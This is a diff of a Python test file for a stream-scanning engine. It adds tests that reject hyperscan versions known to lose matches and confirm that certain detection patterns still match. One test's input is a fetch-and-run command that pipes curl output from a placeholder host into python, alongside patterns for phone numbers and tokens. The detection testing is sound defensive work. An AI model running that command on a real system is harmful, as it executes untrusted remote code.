@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from runner.stream import engines
-from runner.stream.engines import holding, literals
+from runner.stream.engines import VERSION, holding, literals, sound
 
 WORDS = (b"abcabc", b"bca", b"\x1f\x8b\x08", b"7801")
 
@@ -50,3 +50,31 @@ def test_two_threads_may_ask_at_once() -> None:
     for thread in threads:
         thread.join()
     assert found == [True] * 400
+
+
+@pytest.mark.parametrize(
+    ("version", "all_found"), [("5.4.0", True), ("5.4.2", True), ("5.4.11", False), ("5.4.12", False), ("5.4.13", True)]
+)
+def test_an_engine_that_loses_matches_is_not_used(version: str, all_found: bool) -> None:
+    assert sound(version) is all_found
+    assert engines.hyperscan is None or sound(VERSION)
+
+
+@pytest.mark.skipif(engines.hyperscan is None, reason="hyperscan has no wheel for this machine")
+@pytest.mark.parametrize(
+    ("patterns", "text"),
+    [
+        ([rb"curl.*\|\s*python"], b"curl http://xxxx:8000/ 2>&1 | python"),
+        (
+            [rb"(?:^|[^0-9a-z])\+[1-9][0-9]{0,2}(?:[ -]?[0-9]){5}", rb"token=[!-~]{8}"],
+            b"token=token=+49 1511 2345678to",
+        ),
+    ],
+)
+def test_what_other_versions_lose_is_found(patterns: list[bytes], text: bytes) -> None:
+    database = engines.hyperscan.Database(mode=engines.hyperscan.HS_MODE_BLOCK)
+    flags = [engines.hyperscan.HS_FLAG_DOTALL] * len(patterns)
+    database.compile(expressions=patterns, ids=list(range(len(patterns))), flags=flags)
+    hits: list[int] = []
+    database.scan(text, match_event_handler=engines._hit, context=hits)
+    assert set(hits[::2]) == set(range(len(patterns)))
